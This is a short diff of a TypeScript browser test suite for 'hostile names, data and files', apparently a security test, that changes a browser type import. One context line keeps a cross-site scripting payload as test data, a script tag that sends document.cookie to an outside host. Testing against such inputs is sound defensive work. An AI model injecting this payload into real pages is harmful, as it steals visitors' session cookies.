@@ -1,7 +1,7 @@
 import { expect } from 'chai'
 import { zipSync } from 'fflate'
-import type { Browser, BrowserContext, Page } from 'playwright-core'
-import { listenForTrouble, openBrowser, openProfile } from './parts/browser.ts'
+import type { BrowserContext, Page } from 'playwright-core'
+import { listenForTrouble, openBrowser, openProfile, type SuiteBrowser } from './parts/browser.ts'
 import { type DashboardSession, signUp } from './parts/dashboard-session.ts'
 import { makeTemplate, openEditor } from './parts/editor-page.ts'
 import { htmlTemplate, type SharedStack, shareStack } from './parts/stack.ts'
@@ -12,7 +12,7 @@ const script = `<script>fetch('${elsewhere}/?'+document.cookie);alert(2)</script
 
 describe('hostile names, data and files, in a browser against the whole stack', () => {
   let stack: SharedStack
-  let browser: Browser
+  let browser: SuiteBrowser
   let session: DashboardSession
   let profile: BrowserContext
   let page: Page
